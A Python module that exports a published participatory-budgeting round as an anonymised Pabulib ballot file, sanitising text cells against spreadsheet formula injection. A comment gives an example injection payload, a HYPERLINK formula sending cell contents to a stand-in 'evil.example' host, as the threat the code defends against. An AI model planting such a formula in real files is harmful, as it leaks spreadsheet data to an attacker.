"""A published round as a Pabulib file: the anonymised ballot box, so anyone can recount it."""

from sqlmodel import Session

from governance import repository as governance_repo
from governance.models import BallotKind, Round, VoteStatus
from proposals import repository as proposals_repo
from voting import counting, pabulib
from voting import repository as voting_repo
from voting.errors import ResultsNotPublished

# A spreadsheet reads a cell that starts with one of these as a formula: a proposal titled
# =HYPERLINK("https://evil.example/?"&A1, "Details") would run on a council officer's computer.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """Text for a cell of an exported file: a leading apostrophe makes a spreadsheet show a
    would-be formula as the text it is (the OWASP advice for CSV injection). Pabulib files are
    ;-separated CSV and are opened in spreadsheets, so their text cells get the same."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


# How Pabulib names our rules in a file's META `rule`.
PABULIB_RULES = {"greedy": "greedy", "mes": "equalshares/add1", "phragmen": "phragmen"}


def pabulib_for_round(session: Session, round_id: int) -> str:
    voting_round = governance_repo.get_round(session, round_id)
    if voting_round.vote_status != VoteStatus.published:
        raise ResultsNotPublished("The ballots of a round are published with its results, not before.")
    partnership = governance_repo.get_partnership(session, voting_round.partnership_id)
    projects = proposals_repo.on_ballot(session, round_id)
    # Ballots in the order of their random keys: the file says nothing about who voted when.
    box = [b.choices for b in voting_repo.ballots_of(session, round_id)]
    election = counting.election_for(voting_round, projects, box)
    meta = {
        "description": spreadsheet_safe(f"{partnership.name}: {voting_round.title}"),
        "country": "United Kingdom",
        "unit": spreadsheet_safe(partnership.name),
        "instance": spreadsheet_safe(voting_round.title),
        "currency": voting_round.currency,
        "rule": PABULIB_RULES.get(voting_round.counting_rule, voting_round.counting_rule),
        **_score_range(voting_round),
    }
    project_info = {str(p.id): {"name": spreadsheet_safe(p.title)} for p in projects}
    return pabulib.dumps(pabulib.from_election(election, meta=meta, project_info=project_info))


def _score_range(voting_round: Round) -> dict[str, str]:
    """The limits a voter had, in Pabulib's META words, so a recount knows the ballot's shape."""
    if voting_round.ballot_kind == BallotKind.scores:
        return {"min_points": str(voting_round.score_min), "max_points": str(voting_round.score_max)}
    if voting_round.ballot_kind == BallotKind.points:
        return {"max_sum_points": str(voting_round.points_total)}
    if voting_round.ballot_kind == BallotKind.ranking:
        return {"max_length": str(voting_round.rank_depth)}
    return {}
